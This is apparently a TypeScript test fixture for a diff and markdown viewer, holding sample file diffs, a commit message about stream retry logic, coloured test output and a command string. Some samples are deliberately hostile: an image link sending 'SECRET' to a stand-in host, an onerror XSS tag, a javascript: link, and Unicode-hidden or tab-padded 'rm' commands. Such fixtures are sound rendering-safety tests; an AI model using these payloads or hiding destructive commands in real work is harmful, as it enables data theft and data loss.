// Invented content for the gallery.
import type { DiffFile, DiffLine } from "../diff";

const body = (text: string): DiffLine[] => {
  let old = 0;
  let fresh = 0;
  return text.split("\n").map((line) => {
    const mark = (line[0] ?? " ") as DiffLine["mark"];
    const numbers = mark === "+" ? { new: (fresh += 1) } : mark === "-" ? { old: (old += 1) } : { old: (old += 1), new: (fresh += 1) };
    return { ...numbers, mark, text: line.slice(1) };
  });
};

const shift = (lines: DiffLine[], by: number): DiffLine[] =>
  lines.map((line) => ({ ...line, ...(line.old === undefined ? {} : { old: line.old + by }), ...(line.new === undefined ? {} : { new: line.new + by }) }));

export const retry: DiffFile = {
  path: "src/retry.rs",
  kind: "changed",
  lines: 88,
  hunks: [
    { lines: shift(body(["-    loop {", "-        match self.stream(request).await {", "+    let response = loop {", "+        match self.open(request).await {", "             Ok(response) => break response,"].join("\n")), 39) },
    { lines: shift(body(["         }", "     }", "-    Err(last)", "+    // The stream has begun: what arrived is kept.", '+    let text = "a\u202Eb\u200Bc";', " }"].join("\n")), 54) },
  ],
};

export const several: DiffFile[] = [
  retry,
  { path: "访谈/六月 整理.md", kind: "added", hunks: [{ lines: body(["+# 六月的访谈", "+", "+- 第一位：谈到了安装", "+- 第二位：更在意速度"].join("\n")) }] },
  { path: "old\\name.ts", from: "src/name.ts", kind: "renamed", hunks: [{ lines: body([" export const a = 1;", "-export const name = 'x';", "+export const name = \"y\"; // a\tb", " ", ...Array.from({ length: 30 }, (_, n) => ` const line${n} = ${n};`), "-end()", "+finish()"].join("\n")) }] },
  { path: "logo.png", kind: "changed", binary: true, hunks: [] },
];

export const long: DiffFile = {
  path: "src/table.ts",
  kind: "changed",
  hunks: [{ lines: body(Array.from({ length: 2500 }, (_, n) => `-const row${n} = { id: ${n}, name: "row ${n}" };\n+const row${n} = { id: ${n}, name: "line ${n}", on: true };`).join("\n")) }],
};

export const message = `The loop in \`send()\` retries on **any** error, including those that arrive *after* the first chunk, so a dropped connection repeats text. See [the report](https://example.com/issues/12) or https://example.org/a?b=1&amp;c.

## What changes

1. Open first, then stream
2. Keep what arrived
   - also when the reader stops
   - ~~never~~ twice

- [x] tests for \`retry\`
- [ ] changelog

> A stream that has begun is never begun again.

| case | before | now |
|:-----|:------:|----:|
| connect error | 3 tries | 3 tries |
| cut after 12 kB | text twice | kept, 1 note |

\`\`\`rust
/// Opens, with three tries.
pub async fn open(&self, request: &Request) -> Result<Response, Error> {
    for (n, wait) in WAITS.iter().enumerate() {
        match self.client.execute(request).await {
            Ok(response) => return Ok(response),
            Err(error) if error.is_connect() => sleep(*wait).await,
            Err(error) => return Err(Error::Open { tries: n + 1, error }),
        }
    }
    Err(Error::GaveUp)
}
\`\`\`

\`\`\`mermaid
graph TD; A-->B
\`\`\`

![a chart](https://sink.example/?d=SECRET) <img src=x onerror=alert(1)> [open](javascript:alert(1)) and a hidden \`rm\u202E -rf\u200B\` here.

中文排版：流开始之后就不再重试，**已经收到的内容**会保留。`;

export const output = "\u001b[1mrunning 3 tests\u001b[0m\ntest retry::opens ... \u001b[32mok\u001b[0m\ntest retry::keeps ... \u001b[31mFAILED\u001b[0m\n\u001b[2K\u001b[33mwarning\u001b[0m: unused\u0007";

export const command = `cargo test\u200B --workspace \u202Eretry${"\t".repeat(300)}; rm x`;
